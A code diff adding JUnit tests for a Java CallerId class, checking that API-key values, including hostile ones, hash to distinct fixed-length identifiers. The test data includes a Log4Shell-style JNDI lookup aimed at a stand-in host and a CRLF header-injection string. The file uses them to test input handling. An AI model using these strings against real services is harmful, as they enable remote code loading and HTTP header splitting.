@@ -70,4 +70,45 @@ final class CallerIdTest {
         assertThat(CallerId.ofAddress(IpAddress.parse("192.0.2.7")).text()).isEqualTo("ip=192.0.2.7");
         assertThat(CallerId.ofAddress(null)).isEqualTo(CallerId.absent(CallerKey.IP));
     }
+
+    @Test
+    void hostile_values_are_as_small_as_any_other_and_all_different() {
+        List<String> hostile = List.of(
+                "\u0000".repeat(16),
+                "\u0000".repeat(17),
+                "\ud800".repeat(16),
+                "\udc00".repeat(16),
+                "\ud800\udc00".repeat(8),
+                "\ufffd".repeat(16),
+                "?".repeat(16),
+                "a".repeat(1 << 20),
+                "a".repeat((1 << 20) - 1) + "\u0000",
+                "\u0000" + "a".repeat((1 << 20) - 1),
+                "\r\nX-Evil: 1\r\n\r\n",
+                "${jndi:ldap://evil.example}",
+                "\u202e".repeat(20),
+                "e\u0301",
+                "\u00e9");
+        Set<CallerId> ids = new HashSet<>();
+        for (String value : hostile) {
+            CallerId id = CallerId.of(CallerKey.API_KEY, value);
+            ids.add(id);
+            assertThat(id.text()).matches("api-key#[0-9a-f]{32}");
+            assertThat(id).isEqualTo(CallerId.of(CallerKey.API_KEY, new String(value)));
+        }
+
+        assertThat(ids).hasSize(hostile.size());
+    }
+
+    @Test
+    void no_value_is_the_caller_without_one() {
+        Set<CallerId> ids = new HashSet<>();
+        for (char c = 0; c < 512; c++) {
+            for (int length = 0; length < 20; length++) {
+                ids.add(CallerId.of(CallerKey.USER, String.valueOf(c).repeat(length)));
+            }
+        }
+
+        assertThat(ids).hasSize(512 * 19 + 1).doesNotContain(CallerId.absent(CallerKey.USER));
+    }
 }
